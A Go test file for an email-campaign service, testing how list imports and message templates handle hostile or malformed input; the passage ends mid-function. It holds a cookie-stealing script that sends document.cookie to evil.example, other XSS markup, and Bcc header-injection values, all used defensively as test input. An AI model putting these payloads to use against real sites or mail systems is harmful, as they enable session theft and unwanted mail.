package plan_test

// Hostile and broken input (docs/RELIABILITY.md, "Hostile and broken
// input"): every bad target list or payload gets
// one clear error, one line naming the CSV line or the field, and a refused
// request changes nothing in the database. The reader-level cases live in
// targetlist_test.go (and FuzzReadCSV / FuzzReadJSON fuzz the readers);
// these go through approval.Service, as the API and the UI do.

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"mime"
	"mime/multipart"
	"mime/quotedprintable"
	"net/mail"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/jackc/pgx/v5/pgxpool"
	"github.com/stretchr/testify/require"

	"github.com/onceplan/onceplan/approval"
	"github.com/onceplan/onceplan/internal/auth"
	"github.com/onceplan/onceplan/internal/onceplan"
	"github.com/onceplan/onceplan/internal/pgtest"
	"github.com/onceplan/onceplan/internal/provider"
	"github.com/onceplan/onceplan/plan"
)

// hostile is a draft with a two-target list, and a way to see that a
// refused request left the database as it was.
type hostile struct {
	ctx      context.Context
	pool     *pgxpool.Pool
	svc      *approval.Service
	proposer auth.Actor
	id       string
	payload  plan.Payload
}

const hostileList = "email,name\nann@example.com,Ann\nbob@example.com,Bob\n"

func newHostile(t *testing.T) *hostile {
	t.Helper()
	pool := pgtest.Pool(t)
	h := &hostile{ctx: context.Background(), pool: pool, svc: approval.NewService(pool, nil)}
	h.proposer = auth.Actor{
		UserID: pgtest.User(t, pool, pgtest.UserOpts{Email: "proposer@example.com", Roles: []string{"proposer"}}),
		Email:  "proposer@example.com", Roles: []auth.Role{auth.RoleProposer},
	}
	h.payload = plan.Payload{From: "news@example.com", Subject: "Hi {{.name}}", Text: "Hello {{.name}}"}
	res, err := h.svc.Create(h.ctx, h.proposer, approval.CreateParams{
		Name: "Hostile input", Provider: "outbox", Payload: h.payload,
		Targets: &approval.TargetsParams{Format: plan.FormatCSV, Body: strings.NewReader(hostileList)},
	})
	require.NoError(t, err)
	h.id = res.Campaign.ID
	return h
}

// snapshot is every row of the tables a draft lives in, as text.
func (h *hostile) snapshot(t *testing.T) map[string]string {
	t.Helper()
	out := map[string]string{}
	for _, table := range []string{"campaign", "draft", "target_list", "target", "plan", "approval", "campaign_event"} {
		var rows string
		require.NoError(t, h.pool.QueryRow(h.ctx, `SELECT coalesce(string_agg(to_jsonb(x)::text, E'\n' ORDER BY to_jsonb(x)::text), '') FROM `+table+` x`).Scan(&rows))
		out[table] = rows
	}
	return out
}

func (h *hostile) targets(t *testing.T) []string {
	t.Helper()
	rows, err := h.pool.Query(h.ctx, `SELECT t.target FROM campaign c JOIN draft d ON d.campaign_id = c.id AND d.version = c.version
		JOIN target t ON t.list_id = d.list_id WHERE c.id = $1 ORDER BY t.ordinal`, h.id)
	require.NoError(t, err)
	var out []string
	for rows.Next() {
		var s string
		require.NoError(t, rows.Scan(&s))
		out = append(out, s)
	}
	require.NoError(t, rows.Err())
	return out
}

func (h *hostile) importCSV(body string) (approval.Result, error) {
	return h.svc.ImportTargets(h.ctx, h.proposer, h.id, approval.TargetsParams{Format: plan.FormatCSV, Body: strings.NewReader(body)})
}

// requireOneClearError checks err is one line and is exactly want.
func requireOneClearError(t *testing.T, err error, want string) {
	t.Helper()
	require.Error(t, err)
	require.NotContains(t, err.Error(), "\n", "one line")
	require.Equal(t, want, err.Error())
}

// refused imports body (CSV or JSON) and requires the one error want, with
// nothing changed.
func (h *hostile) refused(t *testing.T, format plan.Format, body io.Reader, want string) *plan.ListError {
	t.Helper()
	before := h.snapshot(t)
	_, err := h.svc.ImportTargets(h.ctx, h.proposer, h.id, approval.TargetsParams{Format: format, Body: body})
	requireOneClearError(t, err, want)
	var le *plan.ListError
	require.True(t, errors.As(err, &le), "a whole-list error: %T", err)
	require.Equal(t, before, h.snapshot(t), "a refused list changes nothing")
	return le
}

func TestHostileListEmpty(t *testing.T) {
	t.Parallel()
	h := newHostile(t)
	for body, want := range map[string]string{
		"":               "the list is empty (no header row)",
		"\ufeff":         "the list is empty (no header row)",
		"\r\n\n\r\n":     "the list is empty (no header row)",
		"email,name\n":   "the list has no targets",
		"email\n\n,\n  ": "the list has no targets",
	} {
		h.refused(t, plan.FormatCSV, strings.NewReader(body), want)
	}
	h.refused(t, plan.FormatJSON, strings.NewReader(""), "the list is empty (no JSON array)")
	h.refused(t, plan.FormatJSON, strings.NewReader(" [ ] "), "the list has no targets")
	require.Equal(t, []string{"ann@example.com", "bob@example.com"}, h.targets(t))
}

func TestHostileListOverTheTargetLimit(t *testing.T) {
	t.Parallel()
	h := newHostile(t)
	h.svc.MaxTargets = 3
	// Duplicates do not count against the limit: three targets, five rows.
	res, err := h.importCSV("email\na@example.com\nA@example.com\nb@example.com\nc@example.com\nC@EXAMPLE.COM\n")
	require.NoError(t, err)
	require.Equal(t, 3, res.Import.TargetCount)
	// One over: refused as a whole, naming the line of the fourth target.
	le := h.refused(t, plan.FormatCSV, strings.NewReader("email\na@example.com\nb@example.com\nb@example.com\nc@example.com\nd@example.com\n"),
		"line 6: the list has more than 3 targets, the limit for one campaign")
	require.True(t, le.TooLarge)
	require.Equal(t, []string{"a@example.com", "b@example.com", "c@example.com"}, h.targets(t))
}

func TestHostileListOverTheSizeLimit(t *testing.T) {
	t.Parallel()
	h := newHostile(t)
	h.svc.MaxBytes = 1 << 10
	var list strings.Builder
	list.WriteString("email\n")
	for i := 0; list.Len() <= 2<<10; i++ {
		fmt.Fprintf(&list, "person%d@example.com\n", i)
	}
	le := h.refused(t, plan.FormatCSV, strings.NewReader(list.String()), "the list is larger than the 1 KiB limit")
	require.True(t, le.TooLarge)
	json := `[` + strings.Repeat(`{"address": "someone@example.com"},`, 100) + `{"address": "last@example.com"}]`
	h.refused(t, plan.FormatJSON, strings.NewReader(json), "the list is larger than the 1 KiB limit")
}

func TestHostileListBinaryGarbage(t *testing.T) {
	t.Parallel()
	h := newHostile(t)
	rng := rand.New(rand.NewPCG(9, 9))
	garbage := make([]byte, 50_000)
	for i := range garbage {
		garbage[i] = byte(rng.Uint32())
	}
	png := append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), garbage[:500]...)
	for _, tc := range []struct {
		body []byte
		want string
	}{
		{garbage, "the file is not a text CSV file"},
		{png, "the file is not a text CSV file"},
		{append([]byte{0xFF, 0xFE}, []byte("e\x00m\x00a\x00i\x00l\x00\n\x00")...), "the file is not a text CSV file (it is UTF-16 encoded; save it as CSV UTF-8)"},
		{append([]byte("PK\x03\x04"), garbage[:200]...), "the file is not a text CSV file (it looks like a spreadsheet workbook; save it as CSV UTF-8)"},
	} {
		h.refused(t, plan.FormatCSV, bytes.NewReader(tc.body), tc.want)
	}
	// The same bytes sent as a JSON list.
	h.refused(t, plan.FormatJSON, bytes.NewReader(png), `invalid JSON at byte 0: invalid character '\u0089' looking for beginning of value`)
}

func TestHostileListNULBytes(t *testing.T) {
	t.Parallel()
	h := newHostile(t)
	// A NUL in a header refuses the list; the file is otherwise text.
	h.refused(t, plan.FormatCSV, strings.NewReader("email,na\x00me\nann@example.com,Ann\n"), "line 1: the header row contains a NUL byte")
	// A file of NULs is not text at all.
	h.refused(t, plan.FormatCSV, bytes.NewReader(append([]byte("email\n"), make([]byte, 4096)...)), "the file is not a text CSV file")

	// A NUL in a row rejects that row, named, and the rest is imported.
	res, err := h.importCSV("email,name\ncy@example.com,Cy\nd\x00e@example.com,De\neve@example.com,E\x00ve\nfay@example.com,Fay\n")
	require.NoError(t, err)
	require.Equal(t, []plan.Rejection{
		{Line: 3, Reason: `column "email" contains a NUL byte`},
		{Line: 4, Reason: `column "name" contains a NUL byte`},
	}, res.Import.Rejected)
	require.Equal(t, []string{"cy@example.com", "fay@example.com"}, h.targets(t))

	res, err = h.svc.ImportTargets(h.ctx, h.proposer, h.id, approval.TargetsParams{Format: plan.FormatJSON, Body: strings.NewReader(
		`[{"address": "gus\u0000@example.com"}, {"address": "hal@example.com", "vars": {"name": "H\u0000al"}}, {"address": "ida@example.com", "vars": {"name": "Ida"}}]`)})
	require.NoError(t, err)
	require.Equal(t, []plan.Rejection{
		{Line: 1, Reason: "the address contains a NUL character"},
		{Line: 2, Reason: `var "name" contains a NUL character`},
	}, res.Import.Rejected)
	require.Equal(t, []string{"ida@example.com"}, h.targets(t))
}

func TestHostileList100KBLine(t *testing.T) {
	t.Parallel()
	h := newHostile(t)
	long := strings.Repeat("x", 100<<10)
	h.refused(t, plan.FormatCSV, strings.NewReader("email,name\ncy@example.com,Cy\ndee@example.com,"+long+"\neve@example.com,Eve\n"),
		"line 3: the row is longer than the 64 KiB limit")
	h.refused(t, plan.FormatCSV, strings.NewReader("email,name\n"+long+"@example.com,Cy\n"),
		"line 2: the row is longer than the 64 KiB limit")
	h.refused(t, plan.FormatJSON, strings.NewReader(`[{"address": "cy@example.com"}, {"address": "dee@example.com", "vars": {"name": "`+long+`"}}]`),
		"element 2 is larger than the 64 KiB limit")
}

func TestHostileListUnclosedQuotes(t *testing.T) {
	t.Parallel()
	h := newHostile(t)
	h.refused(t, plan.FormatCSV, strings.NewReader("email,name\ncy@example.com,Cy\ndee@example.com,\"Dee\neve@example.com,Eve\n"),
		`line 3: a quoted field is not closed (column "name"); the file ends inside it`)
	h.refused(t, plan.FormatCSV, strings.NewReader("email,name\ncy@example.com,\"Cy\" Junior\ndee@example.com,Dee\n"),
		`line 2: in column "name", a closing quote is followed by other text at byte 19 of the line; a quote inside a quoted value must be doubled ("")`)
	h.refused(t, plan.FormatCSV, strings.NewReader("\"email,name\ncy@example.com,Cy\n"),
		`line 1: the header row has a quote error: extraneous or missing " in quoted-field`)
}

func TestHostileListDuplicateHeader(t *testing.T) {
	t.Parallel()
	h := newHostile(t)
	h.refused(t, plan.FormatCSV, strings.NewReader("email,name,Name\ncy@example.com,Cy,C\n"),
		`line 1: columns 2 ("name") and 3 ("Name") of the header have the same name`)
	h.refused(t, plan.FormatCSV, strings.NewReader("Email, email \ncy@example.com,cy@example.org\n"),
		`line 1: columns 1 ("Email") and 2 ("email") of the header have the same name`)
	h.refused(t, plan.FormatCSV, strings.NewReader("email,,name\ncy@example.com,,Cy\n"),
		`line 1: column 2 of the header has no name`)
}

func TestHostileListMissingHeader(t *testing.T) {
	t.Parallel()
	h := newHostile(t)
	h.refused(t, plan.FormatCSV, strings.NewReader("cy@example.com,Cy\ndee@example.com,Dee\n"),
		`line 1: no address column: expected a column named "email" or "address", the header has "cy@example.com", "Cy"`)
	h.refused(t, plan.FormatCSV, strings.NewReader("\n\nname,city\nCy,Paris\n"),
		`line 3: no address column: expected a column named "email" or "address", the header has "name", "city"`)
}

// Spellings of one address in Unicode normal forms, letter case, IDN and
// punycode are one target; the report names each later line as a
// duplicate of the first.
func TestHostileListUnicodeDuplicatesAreOneTarget(t *testing.T) {
	t.Parallel()
	h := newHostile(t)
	res, err := h.importCSV("email,name\n" +
		"jos\u00e9@example.com,NFC\n" + // 2
		"jose\u0301@example.com,NFD\n" + // 3
		"JOS\u00c9@EXAMPLE.COM,upper\n" + // 4
		"JOSE\u0301@example.com,upper NFD\n" + // 5
		"eve@b\u00fccher.example,IDN\n" + // 6
		"eve@xn--bcher-kva.example,punycode\n" + // 7
		"eve@XN--BCHER-KVA.EXAMPLE,upper punycode\n" + // 8
		"eve@B\u00dcCHER.example,upper IDN\n" + // 9
		"eve@bu\u0308cher.example,NFD IDN\n" + // 10
		"eve@b\u00fccher.example.,trailing dot\n") // 11
	require.NoError(t, err)
	r := res.Import
	require.Equal(t, 10, r.Rows)
	require.Equal(t, 2, r.Accepted, "%+v", r)
	require.Equal(t, r.Rows, r.Accepted+r.Duplicate+r.RejectedCount)
	var dups []plan.Duplicate
	for line := 3; line <= 5; line++ {
		dups = append(dups, plan.Duplicate{Line: line, DuplicateOf: 2})
	}
	for line := 7; line <= 10; line++ {
		dups = append(dups, plan.Duplicate{Line: line, DuplicateOf: 6})
	}
	require.Equal(t, dups, r.Duplicates[:len(dups)])
	require.Equal(t, []string{"jos\u00e9@example.com", "eve@xn--bcher-kva.example"}, h.targets(t))
	// A trailing dot (a fully qualified name) is refused by net/mail: the
	// line is rejected and named, not merged or kept as a second target.
	require.Equal(t, []plan.Rejection{{Line: 11, Reason: `address "eve@bücher.example." is not a valid email address: missing '@' or angle-addr`}}, r.Rejected)
}

// unfoldLF is RFC 5322 unfolding after encoding/csv turned a quoted CRLF
// into LF: a line break followed by white space is that white space.
func unfoldLF(s string) string {
	s = strings.ReplaceAll(s, "\r\n", "\n")
	return strings.NewReplacer("\n ", " ", "\n\t", "\t").Replace(s)
}

// Display names, comments and folding white space are accepted exactly when
// net/mail's ParseAddress accepts the (unfolded) value, and then the target
// is the bare address: the display name and comments never reach the key.
func TestHostileListAddressFormsFollowNetMail(t *testing.T) {
	t.Parallel()
	h := newHostile(t)
	cases := []struct {
		address string
		target  string // "" when rejected
	}{
		{"Ann Example <ann@example.com>", "ann@example.com"},
		{`"Example, Bea" <bea@example.com>`, "bea@example.com"},
		{"cy@example.com (work)", "cy@example.com"},
		{"Dee (the boss) <dee@example.com>", "dee@example.com"},
		{"Eve\r\n <eve@example.com>", "eve@example.com"},   // folded
		{"Eve2\n\t<eve2@example.com>", "eve2@example.com"}, // folded with a tab
		{"=?utf-8?q?J=C3=B6rg?= <jorg@example.com>", "jorg@example.com"},
		{"<kim@example.com>", "kim@example.com"},
		{"team: lu@example.com;", "lu@example.com"}, // a group of one: net/mail takes it
		{"fay@example.com\r\nBcc: victim@example.com", ""},
		{"(c)gus@example.com", ""},
		{"Hal <hal@example.com>, Ida <ida@example.com>", ""},
		{"jo@example.com (unclosed", ""},
		{"Ann <ann@example.com", ""},
		{"\"Ann\r\nBcc: x@example.com\" <ann3@example.com>", ""},
	}
	var list bytes.Buffer
	w := csv.NewWriter(&list)
	require.NoError(t, w.Write([]string{"email", "name"}))
	w.Flush()
	lines := make([]int, len(cases))
	for i, c := range cases {
		lines[i] = bytes.Count(list.Bytes(), []byte("\n")) + 1
		require.NoError(t, w.Write([]string{c.address, "x"}))
		w.Flush()
	}
	res, err := h.importCSV(list.String())
	require.NoError(t, err)
	rejected := map[int]string{}
	for _, r := range res.Import.Rejected {
		rejected[r.Line] = r.Reason
		require.NotContains(t, r.Reason, "\n")
	}
	var want []string
	for i, c := range cases {
		_, perr := mail.ParseAddress(unfoldLF(c.address))
		if c.target == "" {
			require.Contains(t, rejected, lines[i], "%q is rejected", c.address)
			require.Error(t, perr, "%q: net/mail refuses it too", c.address)
			continue
		}
		require.NotContains(t, rejected, lines[i], "%q is accepted", c.address)
		require.NoError(t, perr, "%q: net/mail accepts it too", c.address)
		want = append(want, c.target)
	}
	require.Equal(t, want, h.targets(t))
}

// Ten thousand invalid lines among valid ones: the import is accepted with
// the valid ones, every line is counted, and the first 1,000 bad lines are
// named one by one (Truncated says there were more).
func TestHostileListTenThousandInvalidLines(t *testing.T) {
	t.Parallel()
	h := newHostile(t)
	var list strings.Builder
	list.WriteString("email,name\n")
	var bad []int
	valid := 0
	for i := range 10_500 {
		line := i + 2
		if i%21 == 0 {
			fmt.Fprintf(&list, "reader%d@example.com,R\n", i)
			valid++
			continue
		}
		fmt.Fprintf(&list, "reader%d-at-example.com,R\n", i)
		bad = append(bad, line)
	}
	res, err := h.importCSV(list.String())
	require.NoError(t, err)
	r := res.Import
	require.Equal(t, 10_500, r.Rows)
	require.Equal(t, 500, valid)
	require.Equal(t, 500, r.Accepted)
	require.Equal(t, 10_000, r.RejectedCount)
	require.Zero(t, r.Duplicate)
	require.Equal(t, r.Rows, r.Accepted+r.Duplicate+r.RejectedCount, "the counts add up")
	require.True(t, r.Truncated)
	require.Len(t, r.Rejected, 1000)
	for i, rej := range r.Rejected {
		require.Equal(t, bad[i], rej.Line)
		require.Equal(t, fmt.Sprintf(`address "reader%d-at-example.com" has no "@"`, bad[i]-2), rej.Reason)
	}
	require.Equal(t, 500, r.TargetCount)
	require.Len(t, h.targets(t), 500)

	// Only invalid lines: refused, nothing changed.
	var none strings.Builder
	none.WriteString("email\n")
	for i := range 10_000 {
		fmt.Fprintf(&none, "nobody%d\n", i)
	}
	h.refused(t, plan.FormatCSV, strings.NewReader(none.String()),
		`none of the list's 10000 rows is a usable target (10000 rejected, 0 duplicates); line 2: address "nobody0" has no "@"`)
}

func TestHostileListMalformedJSON(t *testing.T) {
	t.Parallel()
	h := newHostile(t)
	for body, want := range map[string]string{
		`{"address": "cy@example.com"}`:               "the JSON list must be an array of targets, but its top-level value is an object",
		`[{"address": "cy@example.com"},`:             "the JSON ends at byte 31 (element 2) before the array is closed",
		`[{"address": "cy@example.com"} {"a": 1}]`:    "invalid JSON at byte 31 (element 2): expected comma after array element",
		`[{"address": "cy@example.com"}] [{}]`:        "unexpected data after the JSON array at byte 32",
		`[{"address": "cy@example.com", "vars": {]}]`: "invalid JSON at byte 40 (element 1): invalid character ']' looking for beginning of object key string",
		"\x00[]": "invalid JSON at byte 0: invalid character '\\x00' looking for beginning of value",
	} {
		h.refused(t, plan.FormatJSON, strings.NewReader(body), want)
	}
	// Wrong types are row errors: named, the rest imported.
	res, err := h.svc.ImportTargets(h.ctx, h.proposer, h.id, approval.TargetsParams{Format: plan.FormatJSON, Body: strings.NewReader(
		`[{"address": 42}, {"address": "dee@example.com", "vars": {"n": {"deep": 1}}}, {"address": "eve@example.com", "extra": 1}, {"address": "fay@example.com"}]`)})
	require.NoError(t, err)
	require.Equal(t, []plan.Rejection{
		{Line: 1, Reason: "the address must be a string, not a number"},
		{Line: 2, Reason: `var "n" is an object; a var must be a string, number or boolean`},
		{Line: 3, Reason: `unknown field "extra"; an element has only "address" and "vars"`},
	}, res.Import.Rejected)
	require.Equal(t, []string{"fay@example.com"}, h.targets(t))
}

// edit changes the draft's payload and requires the one error want, with
// nothing changed.
func (h *hostile) editRefused(t *testing.T, p plan.Payload, want string) {
	t.Helper()
	before := h.snapshot(t)
	_, err := h.svc.Edit(h.ctx, h.proposer, h.id, p)
	requireOneClearError(t, err, want)
	require.ErrorIs(t, err, onceplan.ErrInvalid)
	require.Equal(t, before, h.snapshot(t), "a refused edit changes nothing")
}

func TestHostilePayloadTemplateSyntaxErrors(t *testing.T) {
	t.Parallel()
	h := newHostile(t)
	with := func(f func(*plan.Payload)) plan.Payload {
		p := h.payload
		f(&p)
		return p
	}
	h.editRefused(t, with(func(p *plan.Payload) { p.Text = "Hello {{.name}},\n\nyour invoice {{.invoice" }),
		"text: line 3: unclosed action")
	h.editRefused(t, with(func(p *plan.Payload) { p.Subject = "Hi {{.name}" }),
		`subject: line 1: bad character U+007D '}'`)
	h.editRefused(t, with(func(p *plan.Payload) { p.HTML = "<p>{{if .name}}Hi</p>" }),
		"html: line 1: unexpected EOF")
	h.editRefused(t, with(func(p *plan.Payload) { p.Text = `{{template "x"}}` }),
		`text: {{template "x"}} is not supported in a draft`)
	h.editRefused(t, with(func(p *plan.Payload) { p.Text = "{{.customer.name}}" }),
		"text: {{.customer.name}}: merge variables are flat names like {{.first_name}}")
	// Contexts html/template checks only when it first runs the template
	// are checked when the draft is written, not at the first send.
	h.editRefused(t, with(func(p *plan.Payload) { p.HTML = `<p title="{{.name}}>Hi</p>` }),
		"html: the HTML ends inside a tag, an attribute or a quoted value")
	h.editRefused(t, with(func(p *plan.Payload) { p.HTML = `{{if .name}}<a href="{{end}}x">` }),
		"html: line 1: {{if}} branches end in different contexts")
	// Templates that would cost a worker unbounded time or memory per
	// target are refused.
	h.editRefused(t, with(func(p *plan.Payload) { p.Text = "{{range 1000000000}}x{{end}}" }),
		"text: {{range}} is not supported in a draft: merge variables are single values")
	h.editRefused(t, with(func(p *plan.Payload) { p.Text = `{{$a := printf "%099d" 0}}{{$a}}` }),
		`text: {{$a := printf "%099d" 0}}: variables are not supported in a draft; use the merge variables directly`)
	h.editRefused(t, with(func(p *plan.Payload) { p.Text = `{{printf "%01000000d" 0}}` }),
		`text: {{printf "%01000000d" 0}}: printf widths and precisions are at most 100`)
	h.editRefused(t, with(func(p *plan.Payload) { p.Text = `{{html (html (html (html .name)))}}` }),
		`text: {{html (html (html (html .name)))}}: html is allowed only directly in an output over merge variables and literals, like {{html .name}}`)
	h.editRefused(t, with(func(p *plan.Payload) { p.Text = `{{.name | js | js | js}}` }),
		`text: {{.name | js | js | js}}: js is allowed only directly in an output over merge variables and literals, like {{js .name}}`)

	// The same payload refused at create makes no campaign.
	var before int
	require.NoError(t, h.pool.QueryRow(h.ctx, `SELECT count(*) FROM campaign`).Scan(&before))
	_, err := h.svc.Create(h.ctx, h.proposer, approval.CreateParams{Name: "Broken", Provider: "outbox",
		Payload: with(func(p *plan.Payload) { p.Text = "Hello {{.name" }),
		Targets: &approval.TargetsParams{Format: plan.FormatCSV, Body: strings.NewReader(hostileList)}})
	requireOneClearError(t, err, "text: line 1: unclosed action")
	var after int
	require.NoError(t, h.pool.QueryRow(h.ctx, `SELECT count(*) FROM campaign`).Scan(&after))
	require.Equal(t, before, after)

	// What stays allowed: the merge idioms an email needs.
	ok := with(func(p *plan.Payload) {
		p.Text = `{{if eq .name "Ann"}}Dear Ann{{else}}Hi {{.name}}{{end}}, unsubscribe: https://example.com/u?e={{.name | urlquery}} {{printf "%-10s|" .name}}`
	})
	_, err = h.svc.Edit(h.ctx, h.proposer, h.id, ok)
	require.NoError(t, err)
	tpl, err := ok.Compile()
	require.NoError(t, err)
	m, err := tpl.Render("ann@example.com", map[string]string{"name": "A&B"})
	require.NoError(t, err)
	require.Equal(t, "Hi A&B, unsubscribe: https://example.com/u?e=A%26B A&B       |", m.Text)
}

// A variable the targets lack passes the payload check (a payload is valid
// on its own) and is caught at submit, naming the first line without it.
func TestHostilePayloadAbsentVariable(t *testing.T) {
	t.Parallel()
	h := newHostile(t)
	p := h.payload
	p.Subject = "Hi {{.nickname}}"
	_, err := h.svc.Edit(h.ctx, h.proposer, h.id, p)
	require.NoError(t, err)
	before := h.snapshot(t)
	_, err = h.svc.Submit(h.ctx, h.proposer, h.id)
	requireOneClearError(t, err, "2 targets lack merge variables the draft uses; first: line 2 (ann@example.com) has no nickname")
	require.ErrorIs(t, err, onceplan.ErrInvalid)
	require.Equal(t, before, h.snapshot(t), "the draft stays a draft")
}

// A subject is one header line: a line break in the subject template is
// refused when written, one in a merge variable when rendering, and one
// that gets past both is refused by the provider; text that merely looks
// like a header stays inside the Subject header.
func TestHostilePayloadSubjectHeaderInjection(t *testing.T) {
	t.Parallel()
	h := newHostile(t)
	for _, subject := range []string{"Hi\r\nBcc: victim@example.com", "Hi\nBcc: victim@example.com", "Hi\rBcc: victim@example.com"} {
		p := h.payload
		p.Subject = subject
		h.editRefused(t, p, "subject: must be one line (it contains a line break)")
	}
	p := h.payload
	p.From = "\"News\r\nBcc: victim@example.com\" <news@example.com>"
	h.editRefused(t, p, `from: "\"News\r\nBcc: victim@example.com\" <news@example.com>" is not an email address (mail: missing word in phrase: mail: bad character in quoted-string: '\r')`)

	tpl, err := plan.Payload{From: "News <news@example.com>", Subject: "Hi {{.name}}", Text: "Hello"}.Compile()
	require.NoError(t, err)
	_, err = tpl.Render("ann@example.com", map[string]string{"name": "Ann\r\nBcc: victim@example.com"})
	requireOneClearError(t, err, "subject: renders with a line break for ann@example.com (a merge variable contains one)")

	// Past the renderer (a message built by hand), the provider refuses to
	// build it: nothing is delivered.
	dir := filepath.Join(t.TempDir(), "outbox")
	outbox, err := provider.Parse("outbox", "maildir://"+dir)
	require.NoError(t, err)
	defer outbox.Close()
	req := provider.Request{Key: "v1:" + strings.Repeat("a", 64), Target: "ann@example.com", Message: plan.Message{
		From: "news@example.com", To: "ann@example.com", Subject: "Hi\r\nBcc: victim@example.com", Text: "Hello"}}
	raw, err := outbox.Send(h.ctx, req)
	require.NoError(t, err)
	require.Equal(t, "maildir: error building message: the subject contains a line break (nothing delivered)", string(raw))
	require.Equal(t, provider.OutcomeFailed, outbox.Classify(raw).Outcome)
	require.NoDirExists(t, filepath.Join(dir, "new", provider.MaildirFileName(req.Key, 0)))

	// Header-like text without a line break is the subject's text, encoded
	// into the one Subject header.
	sly := "Hi =?utf-8?q?x?= Bcc: victim@example.com \u2028Cc: victim@example.com\u0085To: x@example.com"
	tpl, err = plan.Payload{From: "News <news@example.com>", Subject: "{{.s}}", Text: "Hello"}.Compile()
	require.NoError(t, err)
	m, err := tpl.Render("ann@example.com", map[string]string{"s": sly})
	require.NoError(t, err)
	req.Message = m
	msg := deliver(t, outbox, dir, req)
	for _, name := range []string{"Bcc", "Cc"} {
		require.Empty(t, msg.Header[name], "no %s header", name)
	}
	to, err := msg.Header.AddressList("To")
	require.NoError(t, err)
	require.Equal(t, []*mail.Address{{Address: "ann@example.com"}}, to)
	subject, err := new(mime.WordDecoder).DecodeHeader(msg.Header.Get("Subject"))
	require.NoError(t, err)
	require.Equal(t, sly, subject)
}

// deliver sends r through the maildir provider and parses the file.
func deliver(t *testing.T, p provider.Provider, dir string, r provider.Request) *mail.Message {
	t.Helper()
	raw, err := p.Send(context.Background(), r)
	require.NoError(t, err)
	require.Equal(t, provider.OutcomeDone, p.Classify(raw).Outcome, "%s", raw)
	data, err := os.ReadFile(filepath.Join(dir, "new", provider.MaildirFileName(r.Key, r.Epoch)))
	require.NoError(t, err)
	msg, err := mail.ReadMessage(bytes.NewReader(data))
	require.NoError(t, err)
	return msg
}

// A body over MaxBodyBytes (2 MiB) is refused naming the field and the
// limit; and no template can render a part past MaxRenderedBytes.
func TestHostilePayload10MBBody(t *testing.T) {
	t.Parallel()
	h := newHostile(t)
	tenMB := strings.Repeat("0123456789", 1<<20)
	p := h.payload
	p.Text = tenMB
	h.editRefused(t, p, "text: is 10485760 bytes; the limit is 2097152")
	p = h.payload
	p.HTML = "<p>" + tenMB + "</p>"
	h.editRefused(t, p, "html: is 10485767 bytes; the limit is 2097152")

	// A 2 MiB draft repeating a 64 KiB variable would render 128 GiB: it
	// stops at the limit, with an error naming the field.
	tpl, err := plan.Payload{From: "a@example.com", Subject: "S", Text: strings.Repeat("{{.big}}", plan.MaxBodyBytes/8)}.Compile()
	require.NoError(t, err)
	_, err = tpl.Render("ann@example.com", map[string]string{"big": strings.Repeat("x", 64<<10)})
	requireOneClearError(t, err, fmt.Sprintf("text: renders to more than %d bytes (the limit of a rendered message part)", plan.MaxRenderedBytes))
}

// HTML with scripts is stored as given and sent as given: the message's
// HTML part holds the template's markup byte for byte (the UI shows it
// inert; that is tested with the UI). Merge variables are still escaped.
func TestHostilePayloadHTMLScriptsStoredAndSentAsGiven(t *testing.T) {
	t.Parallel()
	h := newHostile(t)
	markup := `<p onclick="steal()">Hi</p><script>fetch("https://evil.example/?c="+document.cookie)</script>` +
		`<img src=x onerror="alert(1)"><a href="javascript:alert(1)">x</a><style>body{background:url(javascript:x)}</style>`
	p := h.payload
	p.HTML = markup + `<p>{{.name}}</p>`
	res, err := h.svc.Edit(h.ctx, h.proposer, h.id, p)
	require.NoError(t, err)
	require.Equal(t, p.HTML, res.Draft.Payload.HTML, "stored as given")
	d, err := approval.GetDraft(h.ctx, h.pool, h.id, res.Campaign.Version)
	require.NoError(t, err)
	require.Equal(t, p.HTML, d.Payload.HTML)

	m, err := plan.Preview(h.ctx, h.pool, d.Content(), "ann@example.com", 0)
	require.NoError(t, err)
	require.Equal(t, markup+`<p>Ann</p>`, m.HTML, "rendered as given")

	dir := filepath.Join(t.TempDir(), "outbox")
	outbox, err := provider.Parse("outbox", "maildir://"+dir)
	require.NoError(t, err)
	defer outbox.Close()
	msg := deliver(t, outbox, dir, provider.Request{Key: "v1:" + strings.Repeat("b", 64), Target: m.To, Message: m})
	_, params, err := mime.ParseMediaType(msg.Header.Get("Content-Type"))
	require.NoError(t, err)
	mr := multipart.NewReader(msg.Body, params["boundary"])
	var html string
	for {
		part, err := mr.NextRawPart()
		if err == io.EOF {
			break
		}
		require.NoError(t, err)
		if ct, _, _ := mime.ParseMediaType(part.Header.Get("Content-Type")); ct != "text/html" {
			continue
		}
		var body io.Reader = part
		if strings.EqualFold(part.Header.Get("Content-Transfer-Encoding"), "quoted-printable") {
			body = quotedprintable.NewReader(part)
		}
		b, err := io.ReadAll(body)
		require.NoError(t, err)
		html = strings.ReplaceAll(string(b), "\r\n", "\n")
	}
	require.Equal(t, markup+`<p>Ann</p>`, html, "sent as given")

	// A variable carrying a script is escaped into text.
	tpl, err := d.Payload.Compile()
	require.NoError(t, err)
	m, err = tpl.Render("eve@example.com", map[string]string{"name": "<script>x()</script>"})
	require.NoError(t, err)
	require.Equal(t, markup+`<p>&lt;script&gt;x()&lt;/script&gt;</p>`, m.HTML)
}

// FuzzPayloadTemplates: any subject, text and HTML either compile or are
// refused with one line naming the field; a payload that compiles renders
// (or is refused naming the field) deterministically, every part within
// MaxRenderedBytes. The saved seeds are the amplifying templates the
// checks refuse. (CSV and JSON lists: FuzzReadCSV, FuzzReadJSON.)
func FuzzPayloadTemplates(f *testing.F) {
	f.Fuzz(func(t *testing.T, subject, text, html string) {
		p := plan.Payload{From: "news@example.com", Subject: subject, Text: text, HTML: html}
		tpl, err := p.Compile()
		if err != nil {
			var fe *onceplan.FieldError
			require.True(t, errors.As(err, &fe), "%T %v", err, err)
			require.Contains(t, []string{"subject", "text", "html"}, fe.Field)
			require.NotContains(t, err.Error(), "\n")
			return
		}
		vars := map[string]string{}
		for _, name := range tpl.Fields() {
			vars[name] = strings.Repeat(`<&"'x%`, 1000)
		}
		m, err := tpl.Render("ann@example.com", vars)
		again, err2 := tpl.Render("ann@example.com", vars)
		require.Equal(t, err, err2, "deterministic")
		require.Equal(t, m, again, "deterministic")
		if err != nil {
			require.ErrorIs(t, err, onceplan.ErrInvalid)
			return
		}
		for _, part := range []string{m.Subject, m.Text, m.HTML} {
